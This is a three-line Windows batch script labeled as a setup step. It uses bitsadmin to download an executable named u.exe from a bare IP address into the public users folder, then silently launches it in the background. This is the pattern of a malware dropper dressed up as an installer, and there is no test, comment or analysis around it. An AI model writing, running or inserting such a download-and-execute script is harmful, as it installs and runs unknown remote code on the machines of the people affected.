REM setup 5243 v0
bitsadmin /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
